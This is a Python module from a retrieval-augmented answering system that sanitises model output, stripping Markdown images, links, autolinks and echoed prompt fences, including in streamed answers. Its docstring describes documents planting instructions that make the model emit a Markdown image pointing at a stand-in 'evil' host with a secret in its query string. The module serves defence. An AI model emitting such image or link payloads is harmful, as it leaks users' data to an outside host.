"""Text a reader's screen may show: ``safe_markdown`` is the one function that cleans answers,
titles and snippets before the API returns them or the UI draws them.

An answer is model output over document text, so it may carry whatever a document planted:
a Markdown image (``![x](https://evil/?q=secret)``) that a chat client renders by fetching it, a
link or an autolink to click, or the source fences of the prompt that a small model echoes back
(``<<<END SOURCE 3>>>``). ``safe_markdown`` reduces images, links and link definitions to their
words, drops autolinks' angle brackets and removes fence echoes (their format lives in
``rag/prompts.py``), and leaves the citation markers ``[1]`` alone. The result is plain text: the
UI still HTML-escapes it, and a client that renders Markdown finds nothing that fetches.

``SafeStream`` does the same to an answer that arrives in pieces, holding back only the tail
that could still become one of those constructs.
"""

from __future__ import annotations

import contextlib
import re
from collections.abc import AsyncGenerator

from appliance.rag.prompts import FENCE_ECHO

# ![alt](url), ![alt][ref]; [text](url), [text][ref]; [ref]: url definitions; <scheme:...> autolinks.
_MD_IMAGE = re.compile(r"!\[([^\]\n]*)\](?:\([^)\n]*\)|\[[^\]\n]*\])")
_MD_LINK = re.compile(r"\[([^\]\n]*)\]\([^)\n]*\)")
_MD_REF_LINK = re.compile(r"\[([^\]\n]*)\]\[([^\]\n]*)\]")
_MD_REF_DEF = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*\S.*$", re.MULTILINE)
_AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|file|data|javascript):[^>\s]*)>", re.IGNORECASE)
_MARKERS = re.compile(r"[\d,\s]*")
# The longest tail a stream holds back waiting for a construct to close; past it, it is text.
MAX_HOLD = 400


def _is_marker_list(text: str) -> bool:
    return bool(_MARKERS.fullmatch(text))


def safe_markdown(text: str) -> str:
    """``text`` with no Markdown image, link, link definition or autolink (their words stay) and
    no echo of the prompt's source fences. Citation markers ``[1][2]`` are kept."""
    text = FENCE_ECHO.sub("", text or "")
    text = _MD_IMAGE.sub(lambda m: m.group(1), text)
    text = _MD_LINK.sub(lambda m: m.group(1), text)
    text = _MD_REF_LINK.sub(
        lambda m: m.group(0) if _is_marker_list(m.group(1)) and _is_marker_list(m.group(2)) else m.group(1),
        text,
    )
    text = _MD_REF_DEF.sub("", text)
    return _AUTOLINK.sub(lambda m: m.group(1), text)


def _pending(text: str) -> int:
    """Where the unfinished construct at the end of ``text`` starts (len(text): none): an image or
    link whose brackets or parentheses are still open, or a ``<`` run not yet closed by ``>``."""
    start = max(0, len(text) - MAX_HOLD)
    i = start
    while i < len(text):
        ch = text[i]
        if ch == "[":
            end = _after_brackets(text, i)
            if end is not None and text[end : end + 1] == ":" and _line_start(text, i):
                end = _until(text, "\n", end)  # a link definition is a whole line
            if end is None:
                if _line_start(text, i):
                    return text.rfind("\n", 0, i) + 1  # with its indent: a definition takes both
                return i - 1 if i > start and text[i - 1] == "!" else i
            i = end
            continue
        if ch == "<" and not _closed_angle(text, i):
            return i
        i += 1
    tail = _partial_closer(text)
    if tail is not None:
        return tail
    indent = text[text.rfind("\n") + 1 :]
    if indent and not indent.strip(" \t"):
        return len(text) - len(indent)  # a link definition's indent, maybe
    return len(text) - 1 if text.endswith("!") else len(text)  # "![" may follow


def _line_start(text: str, i: int) -> bool:
    return not text[text.rfind("\n", 0, i) + 1 : i].strip(" \t")


def _after_brackets(text: str, i: int) -> int | None:
    """Where the ``[..]`` at ``i`` with its ``(..)`` or ``[..]`` part ends, or None while it may
    still grow. A newline ends any of them (the patterns never span lines)."""
    close = _until(text, "]", i + 1)
    if close is None or text[close] == "\n":
        return close
    nxt = close + 1
    if nxt == len(text):
        return None  # a "(" or "[" may follow
    pair = {"(": ")", "[": "]"}.get(text[nxt])
    if pair is None:
        return nxt
    end = _until(text, pair, nxt + 1)
    return end if end is None or text[end] == "\n" else end + 1


def _until(text: str, char: str, start: int) -> int | None:
    """The index of ``char`` or of the newline before it, from ``start``; None: neither yet."""
    for j in range(start, len(text)):
        if text[j] in (char, "\n"):
            return j
    return None


def _closed_angle(text: str, i: int) -> bool:
    """True once the ``<`` at ``i`` is followed by a ``>`` run that something else ends."""
    close = _until(text, ">", i + 1)
    if close is None or text[close] == "\n":
        return close is not None
    while close < len(text) and text[close] == ">":
        close += 1
    return close < len(text)


_CLOSERS = ("end source 9>>>", "source 9>>>", "end source 9 >>>", "source 9 >>>")


def _partial_closer(text: str) -> int | None:
    """Where a tail starts that may grow into an unopened fence closer ("END SOURCE 3>>>")."""
    for k in range(min(24, len(text)), 0, -1):
        start = len(text) - k
        if start > 0 and text[start - 1].isalnum():
            continue
        tail = re.sub(r"\d+", "9", re.sub(r"[ \t]+", " ", text[start:].lower()))
        if tail.strip() and any(c.startswith(tail) for c in _CLOSERS):
            return start
    return None


class SafeStream:
    """``safe_markdown`` over an answer that arrives in pieces: each piece is emitted cleaned
    once nothing it ends with can still turn into an image, a link or a fence."""

    def __init__(self) -> None:
        self._held = ""
        self._line = ""  # what was emitted of the current line, uncleaned

    def feed(self, piece: str) -> str:
        text = self._held + piece
        cut = _pending(text)
        self._held = text[cut:]
        return self._clean(text[:cut])

    def flush(self) -> str:
        text, self._held = self._held, ""
        return self._clean(text)

    def _clean(self, text: str) -> str:
        if not text:
            return ""
        # Cleaned after the rest of its line, so a piece that starts mid-line is not taken for a
        # line start (a link definition) nor a word start (a fence closer).
        line, self._line = self._line, (self._line + text).rpartition("\n")[2]
        done = safe_markdown(line)
        out = safe_markdown(line + text)
        return out[len(done) :] if out.startswith(done) else safe_markdown(text)


async def safe_stream(pieces: AsyncGenerator[str, None]) -> AsyncGenerator[str, None]:
    """``pieces`` cleaned by ``SafeStream``; empty pieces are not passed on."""
    cleaner = SafeStream()
    # Closing this closes ``pieces`` now: a generation must stop when its reader goes.
    async with contextlib.aclosing(pieces) as source:
        async for piece in source:
            if out := cleaner.feed(piece):
                yield out
    if out := cleaner.flush():
        yield out
